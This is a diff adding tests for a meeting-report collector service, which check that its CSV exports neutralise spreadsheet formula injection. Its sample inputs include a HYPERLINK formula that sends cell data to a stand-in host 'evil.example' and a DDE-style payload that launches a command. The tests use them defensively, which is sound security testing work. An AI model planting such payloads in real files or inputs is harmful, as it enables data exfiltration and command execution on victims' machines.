@@ -4,6 +4,8 @@ stored, and its member must stay ``ok`` (nothing valid is lost beside an attack)
 
 from __future__ import annotations
 
+import csv
+import io
 import threading
 import time
 from collections.abc import Iterator
@@ -214,3 +216,33 @@ def test_a_reset_download_writes_at_most_one_log_line(collector: Collector) -> N
     assert not any("socket.send() raised exception" in line for line in new)
     until(lambda: collector.api("/api/web/counters")["pages"].get("speedtest_aborted", 0) >= 3, 20,
           "three aborted downloads counted")
+
+
+# -- item 8: CSV exports are data, not formulas --------------------------------------------------------
+
+def test_report_csv_neutralises_formulas_from_free_text(collector: Collector) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
+    for body in ({"kind": "item_start", "item": evil, "by": "@SUM(1+1)"},
+                 {"kind": "adjourn", "by": "+cmd|' /C calc'!A0", "note": "-2+3"},
+                 {"kind": "resume", "by": "\t=1+1"}):
+        r = httpx.post(f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers, json=body,
+                       timeout=10)
+        assert r.status_code == 201, r.text
+    r = httpx.get(f"{collector.base}/it/meetings/ks-test/report", params={"format": "csv"},
+                  headers=collector.headers, timeout=10)
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
+    assert "'+cmd|' /C calc'!A0" in cells, r.text[:2000]  # the adjournment's free-text "by"
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], r.text[:2000]
+    incidents = httpx.get(f"{collector.base}/api/incidents", params={"format": "csv"}, headers=collector.headers,
+                          timeout=10)
+    assert incidents.status_code == 200
+    assert not [c for row in csv.reader(io.StringIO(incidents.text)) for c in row if c[:1] in ("=", "+", "@")]
+
+
+def test_csv_cell_rules() -> None:
+    from collector import csvsafe
+
+    for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
+        assert csvsafe.cell(bad) == "'" + bad
+    assert csvsafe.cell(-1.5) == -1.5 and csvsafe.cell("Anna") == "Anna" and csvsafe.cell(None) is None
